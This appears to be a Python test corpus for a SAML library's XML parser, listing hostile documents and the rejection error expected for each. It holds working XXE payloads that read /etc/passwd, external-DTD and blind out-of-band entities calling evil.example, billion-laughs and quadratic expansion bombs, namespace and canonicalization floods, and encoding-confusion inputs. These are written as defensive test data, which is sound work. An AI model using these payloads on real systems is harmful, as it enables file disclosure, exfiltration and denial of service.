"""Documents that attack the parser: DTDs and entities, floods, encodings."""

from __future__ import annotations

from tests.saml import forge
from tests.saml.hostile.corpus import SIGNED, Family, shortened, sub, swap
from vestibule.saml import errors

HONEST = SIGNED["assertion"]
DTD = Family(
    "DTD and entities",
    "A document type declares entities that read files, call addresses, expand without end, or hide a second document from one reader.",
    "CWE-611; CWE-776; Steuck, XXE, 2002",
)
FLOODS = Family(
    "floods",
    "More bytes, levels, elements, attributes, namespaces, comments or IDs than any honest message has, so that reading costs seconds.",
    "CWE-400; CWE-407; Späth et al., SoK: XML Parser Vulnerabilities, USENIX WOOT 2016",
)
ENCODINGS = Family(
    "encodings",
    "Bytes that two readers take for different texts: UTF-7, UTF-16, declarations that lie, XML 1.1, broken UTF-8, two documents.",
    "REC-xml 4.3.3, F; CWE-838",
)


def _dtd() -> None:
    for doctype in (
        "<!DOCTYPE Response>",
        "<!DOCTYPE\nResponse>",
        '<!DOCTYPE Response [<!ENTITY x "y">]>',
        '<!DOCTYPE Response [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE Response SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE Response PUBLIC "-//W3C//DTD" "http://evil.example/x.dtd">',
        '<!DOCTYPE Response [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
        "<!DOCTYPE Response [<!ATTLIST saml:Assertion Other ID #IMPLIED>]>",
        '<!DOCTYPE Response [<!ATTLIST saml:NameID Format CDATA "urn:evil">]>',
        '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE r [<!NOTATION x PUBLIC "y">]>',
        "<!DOCTYPE samlp:Response [<!ELEMENT samlp:Response ANY>]>",
    ):
        DTD.add(f"the document type {shortened(doctype)}", errors.ForbiddenXml, doctype.encode() + HONEST)
    DTD.add(
        "a document type behind a declaration and a comment",
        errors.ForbiddenXml,
        b'<?xml version="1.0"?>\n<!-- x --><!DOCTYPE r>' + HONEST,
    )
    DTD.add(
        "a document type inside CDATA",
        errors.ForbiddenXml,
        forge.response(name_id=forge.Raw("<![CDATA[<!DOCTYPE r>]]>")),
    )
    DTD.add("a document type behind the end", errors.ForbiddenXml, HONEST + b"<!DOCTYPE r>")
    DTD.add(
        "an entity inside a comment of a document type",
        errors.ForbiddenXml,
        b"<!DOCTYPE r [<!-- <!ENTITY x 'y'> -->]>" + HONEST,
    )
    xxe = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    DTD.add("a file as NameID", errors.ForbiddenXml, xxe.encode() + swap(HONEST, "ada@example.com", "&x;"))
    blind = '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/d.dtd">%d;%send;]>'
    DTD.add("a file sent to an address", errors.ForbiddenXml, blind.encode() + HONEST)
    levels = "".join(f'<!ENTITY l{i + 1} "{f"&l{i};" * 10}">' for i in range(9))
    DTD.add(
        "a billion laughs", errors.ForbiddenXml, f'<!DOCTYPE r [<!ENTITY l0 "ha">{levels}]><r>&l9;</r>', "CVE-2003-1564"
    )
    DTD.add(
        "quadratic expansion",
        errors.ForbiddenXml,
        f'<!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]><r>{"&a;" * 20_000}</r>',
    )
    DTD.add(
        "an entity that contains itself",
        errors.ForbiddenXml,
        '<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>',
    )
    for entity in ("&nbsp;", "&x;", "&#0;", "&#xD800;", "&#x1F;", "&#xFFFE;", "&", "&#x110000;"):
        DTD.add(f"the reference {entity}", errors.MalformedXml, swap(HONEST, "ada@example.com", entity))


def _floods() -> None:
    status = "<samlp:Status>"
    FLOODS.add("a byte too many, and not XML", errors.TooLarge, b"<" * (256 * 1024 + 1))
    FLOODS.add("a byte too many, well-formed", errors.TooLarge, HONEST + b" " * (256 * 1024 + 1 - len(HONEST)))
    for depth in (40, 250, 20_000):
        FLOODS.add(f"{depth} levels", errors.TooLarge, swap(HONEST, status, "<a>" * depth + "</a>" * depth + status))
    FLOODS.add(
        "40 levels of StatusCode",
        errors.TooLarge,
        sub(HONEST, "<samlp:StatusCode [^>]*/>", '<samlp:StatusCode Value="x">' * 40 + "</samlp:StatusCode>" * 40),
    )
    FLOODS.add(
        "3,000 StatusCodes",
        errors.UnexpectedElement,
        sub(HONEST, "<samlp:StatusCode [^>]*/>", '<samlp:StatusCode Value="x"/>' * 3000),
    )
    FLOODS.add("20,000 elements", errors.TooLarge, swap(HONEST, status, "<a/>" * 20_000 + status))
    for count in (21, 20_000):
        many = " ".join(f'a{i}="x"' for i in range(count))
        FLOODS.add(
            f"{count} attributes on one element", errors.TooLarge, swap(HONEST, status, f"<samlp:Status {many}>")
        )
    for place in ("<samlp:Status", "<samlp:Response"):
        many = " ".join(f'xmlns:n{i}="urn:{i}"' for i in range(8_000))
        FLOODS.add(f"8,000 namespaces on {place}", errors.TooLarge, swap(HONEST, place, f"{place} {many}", 1))


def _floods_of_namespaces() -> None:
    status = "<samlp:Status>"
    deep = "".join(
        f'<x:e xmlns:x="urn:x" {" ".join(f"xmlns:n{j}x{i}=" + chr(34) + "urn:y" + chr(34) for j in range(30))}>'
        for i in range(20)
    )
    spread = f"<samlp:Extensions>{deep}{'</x:e>' * 20}</samlp:Extensions>{status}"
    FLOODS.add("600 namespaces over 20 levels", errors.TooLarge, swap(HONEST, status, spread))
    long = "urn:" + "x" * 300
    for written in (f'xmlns:l="{long}"', f"xmlns:l = \n'{long}'"):
        FLOODS.add(
            f"a namespace of 304 characters, written {shortened(written)}",
            errors.TooLarge,
            swap(HONEST, "<samlp:Response ", f"<samlp:Response {written} "),
        )
    for place in (status, "ada@example.com</saml:NameID>", "<samlp:Response "):
        FLOODS.add(
            f"30,000 comments before {shortened(place)}",
            errors.TooLarge,
            swap(HONEST, place, "<!---->" * 30_000 + place, 1),
        )
    FLOODS.add("65 comments between elements", errors.TooLarge, swap(HONEST, status, "<!---->" * 65 + status))
    FLOODS.add(
        "9,000 elements with one ID", errors.DuplicateId, swap(HONEST, status, "<a ID='&#97;'/>" * 9000 + status)
    )


def _floods_of_characters() -> None:
    status = "<samlp:Status>"
    FLOODS.add(
        "9,000 elements with different IDs",
        errors.MissingElement,
        swap(HONEST, status, "".join(f"<a ID='i{i}'/>" for i in range(9000)) + status),
    )
    FLOODS.add(
        "an attribute of 200,000 characters",
        errors.InResponseToMismatch,
        swap(HONEST, 'InResponseTo="_request1" Destination', f'InResponseTo="{"x" * 200_000}" Destination'),
    )
    FLOODS.add("a NameID of 200,000 characters", errors.SubjectInvalid, forge.response(name_id="x" * 200_000))
    FLOODS.add("an issuer of 200,000 characters", errors.IssuerMismatch, forge.response(response_issuer="x" * 200_000))
    FLOODS.add("30,000 entities in a value", errors.IssuerMismatch, swap(HONEST, forge.IDP, "&amp;" * 30_000, 1))
    FLOODS.add(
        "a signature value of 200,000 characters",
        errors.SignatureInvalid,
        sub(HONEST, "<ds:SignatureValue>.*?<", f"<ds:SignatureValue>{'AAAA' * 50_000}<"),
    )
    FLOODS.add(
        "a certificate of 200,000 characters",
        errors.SignatureInvalid,
        forge.response(
            signing=forge.Signing(
                key=forge.key("evil"),
                raw_key_info="<ds:KeyInfo><ds:X509Data><ds:X509Certificate>"
                + "AAAA" * 50_000
                + "</ds:X509Certificate></ds:X509Data></ds:KeyInfo>",
            )
        ),
    )
    FLOODS.add(
        "a digest of 100,000 characters",
        errors.SignatureMalformed,
        sub(HONEST, "<ds:DigestValue>.*?<", f"<ds:DigestValue>{'AAAA' * 25_000}<"),
    )
    FLOODS.add(
        "a SignedInfo of 9,000 elements",
        errors.SignatureReferenceInvalid,
        swap(HONEST, "</ds:SignedInfo>", "<ds:Reference/>" * 9000 + "</ds:SignedInfo>"),
    )
    FLOODS.add(
        "white space of 200,000 characters in SignedInfo",
        errors.SignatureInvalid,
        swap(HONEST, "</ds:SignedInfo>", " " * 200_000 + "</ds:SignedInfo>"),
    )
    FLOODS.add(
        "a status message of 200,000 characters",
        errors.StatusNotSuccess,
        forge.response(status="urn:oasis:names:tc:SAML:2.0:status:Responder", status_message="x" * 200_000),
    )


def _amplified() -> None:
    """What canonical form would multiply, or visit once more for each namespace: the message of a genuine signature, refilled."""
    genuine = SIGNED["response"]
    detail = "<samlp:StatusDetail>%s</samlp:StatusDetail></samlp:Status>"
    long = " ".join(f'xmlns:p{i}="urn:{i}:{"x" * 230}"' for i in range(60))
    short = " ".join(f'xmlns:p{i}="urn:{i}"' for i in range(58))
    users = "".join(
        f"<p0:x {' '.join(f'p{(n * 20 + i) % 60}:a=' + chr(34) * 2 for i in range(20))}/>" for n in range(1000)
    )
    many, deep = "<x xmlns='urn:y'/>" * 460, "<p0:a>" * 24 + "<p0:x/>" * 9400 + "</p0:a>" * 24
    prefixes = f'<ec:InclusiveNamespaces xmlns:ec="{forge.EXC_C14N}" PrefixList="{{}}"/></ds:CanonicalizationMethod>'
    for name, declared, before, after, data, error in (
        (
            "1,000 elements that use 20 long namespaces each",
            long,
            "</samlp:Status>",
            detail % users,
            genuine,
            errors.DigestMismatch,
        ),
        (
            "9,000 elements below 60 namespaces, and 460 more",
            long,
            "</samlp:Status>",
            detail % (many + "<p0:x/>" * 9000),
            genuine,
            errors.DigestMismatch,
        ),
        (
            "9,400 elements 26 levels below 58 namespaces",
            short,
            "</samlp:Status>",
            detail % deep,
            genuine,
            errors.DigestMismatch,
        ),
        (
            "1,000 elements in SignedInfo that use 20 long namespaces each",
            long,
            "</ds:SignedInfo>",
            users + "</ds:SignedInfo>",
            HONEST,
            errors.SignatureMalformed,
        ),
        (
            "9,400 elements in SignedInfo",
            short,
            "</ds:SignedInfo>",
            deep + "</ds:SignedInfo>",
            HONEST,
            errors.SignatureMalformed,
        ),
    ):
        filled = swap(swap(data, "<samlp:Response ", f"<samlp:Response {declared} ", 1), before, after)
        FLOODS.add(name, error, filled)
        if data is HONEST:
            listed = prefixes.format(" ".join(f"p{i}" for i in range(16)))
            method = f'<ds:CanonicalizationMethod Algorithm="{forge.EXC_C14N}"'
            FLOODS.add(f"{name}, and 16 inclusive prefixes", error, swap(filled, method + "/>", f"{method}>{listed}"))


def _many_words() -> None:
    genuine = SIGNED["response"]
    detail = "<samlp:StatusDetail>%s</samlp:StatusDetail></samlp:Status>"
    FLOODS.add(
        "40,000 references to line breaks",
        errors.DigestMismatch,
        swap(genuine, "</samlp:Status>", detail % f"<p:x xmlns:p='urn:p' a='{'&#10;' * 40_000}'/>"),
    )
    listed = f'<ec:InclusiveNamespaces xmlns:ec="{forge.EXC_C14N}" PrefixList="{"p " * 100_000}"/>'
    FLOODS.add(
        "a list of 100,000 inclusive prefixes",
        errors.SignatureMalformed,
        swap(
            HONEST,
            f'<ds:Transform Algorithm="{forge.EXC_C14N}"/>',
            f'<ds:Transform Algorithm="{forge.EXC_C14N}">{listed}</ds:Transform>',
        ),
    )
    FLOODS.add(
        "40,000 times the word xmlns in a name",
        errors.DigestMismatch,
        swap(genuine, "ada@example.com</saml:NameID>", "xmlns" * 40_000 + "</saml:NameID>"),
    )
    FLOODS.add(
        "65 prefixes on 65 elements",
        errors.TooLarge,
        swap(
            HONEST, "<samlp:Status>", "".join(f'<p{i}:x xmlns:p{i}="urn:{i}"/>' for i in range(65)) + "<samlp:Status>"
        ),
    )
    hidden = ("urn:" + "x" * 300).replace("xxxx", 'xx"x')
    FLOODS.add(
        "a namespace that hides its length behind the other kind of quote",
        errors.MalformedXml,
        swap(HONEST, "<samlp:Response ", f"<samlp:Response xmlns:l='{hidden}' "),
    )


def _encodings() -> None:
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037"):
        ENCODINGS.add(f"written in {encoding}", errors.MalformedXml, HONEST.decode().encode(encoding))
    hidden = swap(HONEST, "<", "+ADw-")
    ENCODINGS.add("UTF-7 without a declaration", errors.MalformedXml, hidden)
    ENCODINGS.add("UTF-7 with a declaration", errors.MalformedXml, b'<?xml version="1.0" encoding="UTF-7"?>' + hidden)
    for encoding in (
        "UTF-16",
        "UTF-7",
        "ISO-8859-1",
        "windows-1252",
        "utf-8x",
        "",
        "EBCDIC-CP-US",
        "US-ASCII",
        "ISO-10646-UCS-4",
    ):
        ENCODINGS.add(
            f"a declaration of {encoding or 'nothing'}",
            errors.MalformedXml,
            f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + HONEST,
        )
    for declaration in (
        '<?xml version="1.1"?>',
        '<?xml version="2.0"?>',
        "<?xml?>",
        '<?xml encoding="UTF-8"?>',
        '<?xml version="1.0" standalone="maybe"?>',
        '<?xml version="1.0" encoding="UTF-8" encoding="UTF-7"?>',
        '<?XML version="1.0"?>',
        ' <?xml version="1.0"?>',
    ):
        error = errors.ForbiddenXml if declaration.startswith(("<?XML", " ")) else errors.MalformedXml
        ENCODINGS.add(f"the declaration {shortened(declaration)}", error, declaration.encode() + HONEST)
    ENCODINGS.add("two declarations", errors.ForbiddenXml, b'<?xml version="1.0"?><?xml version="1.0"?>' + HONEST)
    ENCODINGS.add("two byte order marks", errors.MalformedXml, b"\xef\xbb\xbf\xef\xbb\xbf" + HONEST)


def _not_one_document() -> None:
    for bad in (
        b"\xff",
        b"\xc0\xaf",
        b"\xc1\xa1",
        b"\xed\xa0\x80",
        b"\xf4\x90\x80\x80",
        b"\xe2\x82",
        b"\x00",
        b"\x08",
        b"\x1b",
        b"\xef\xbf\xbf",
    ):
        ENCODINGS.add(
            f"the bytes {bad.hex(' ')} in a name", errors.MalformedXml, HONEST.replace(b"ada@", b"ada" + bad + b"@")
        )
    for name, data in (
        ("nothing", b""),
        ("a space", b" "),
        ("a word", b"hello"),
        ("JSON", b"{}"),
        ("an open bracket", b"<"),
        ("an unfinished tag", b"<a"),
        ("tags that don't match", b"<a></b>"),
        ("all but the last byte", HONEST[:-1]),
        ("two documents", HONEST * 2),
        ("text in front", b"x" + HONEST),
        ("text behind", HONEST + b"x"),
        ("a second root behind", HONEST + b"<x/>"),
        ("a NUL behind", HONEST + b"\0"),
        ("base64", b"PHg+PC94Pg=="),
    ):
        ENCODINGS.add(name, errors.MalformedXml, data)
    ENCODINGS.add(
        "an attribute given twice", errors.MalformedXml, swap(HONEST, 'ID="_assertion1"', 'ID="_assertion1" ID="_evil"')
    )
    ENCODINGS.add(
        "a bracket in an attribute", errors.MalformedXml, swap(HONEST, 'ID="_assertion1"', 'ID="_<assertion1"')
    )


_dtd()
_floods()
_floods_of_namespaces()
_floods_of_characters()
_amplified()
_many_words()
_encodings()
_not_one_document()
